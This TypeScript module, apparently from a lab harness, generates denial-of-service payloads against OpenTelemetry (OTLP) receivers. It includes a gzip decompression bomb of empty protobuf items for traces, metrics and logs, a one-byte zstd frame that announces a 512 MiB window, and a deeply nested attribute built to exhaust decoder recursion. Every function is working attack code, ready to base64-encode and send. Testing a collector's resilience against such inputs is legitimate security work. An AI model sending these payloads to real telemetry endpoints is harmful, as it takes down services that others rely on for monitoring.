import { gzipSync } from 'node:zlib';
import type { Signal } from '../lab/alloy-config';

/**
 * One export request of nothing but empty items, two bytes each: what memory they take is out of all proportion to what they are,
 * and gzip makes a thousandth of them.
 */
export function bomb(signal: Signal, mebibytes: number): string {
  const [item, wrap] = INSIDE[signal];
  let message = Buffer.alloc(mebibytes * 2 ** 20 - 64, new Uint8Array([(item << 3) | 2, 0]));
  for (const number of [...wrap].reverse()) message = field(number, message);
  return gzipSync(message, { level: 9 }).toString('base64');
}

/** The field of an item, and the fields that it is in, from the outside in. */
const INSIDE: Record<Signal, readonly [number, readonly number[]]> = {
  // ExportTraceServiceRequest.resource_spans, ResourceSpans.scope_spans, ScopeSpans.spans
  traces: [2, [1, 2]],
  // …, ScopeMetrics.metrics, Metric.exponential_histogram, ExponentialHistogram.data_points
  metrics: [1, [1, 2, 2, 10]],
  logs: [2, [1, 2]],
};

/** A frame of zstd that announces a window of 512 MiB, and holds one byte. RFC 8878, 3.1.1 */
export const ZSTD_WINDOW = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 19 << 3, 0x09, 0x00, 0x00, 0x0a]).toString(
  'base64',
);

/** One attribute whose value is lists in lists, as deep as fits: each level is a call of the decoder. */
export function nested(mebibytes: number): string {
  const most = mebibytes * 2 ** 20 - 64;
  // from the inside out: how long each level is
  const lengths: number[] = [0];
  for (let length = 0; length <= most; lengths.push(length)) {
    for (let part = 0; part < 2; part++) length += 1 + varint(length).length;
    if (length > most) break;
  }
  const parts: number[] = [];
  for (const length of lengths.reverse().slice(1)) {
    const list = [0x0a, ...varint(length)];
    parts.push(0x2a, ...varint(list.length + length), ...list);
  }
  let message: Buffer = Buffer.from(parts);
  // AnyValue in KeyValue.value, Resource.attributes, ResourceSpans.resource, ExportTraceServiceRequest.resource_spans
  for (const number of [2, 1, 1, 1]) message = field(number, message);
  return gzipSync(message, { level: 6 }).toString('base64');
}

function field(number: number, body: Buffer): Buffer<ArrayBuffer> {
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...varint(body.length)]), body]);
}

function varint(value: number): number[] {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return [...bytes, rest];
}
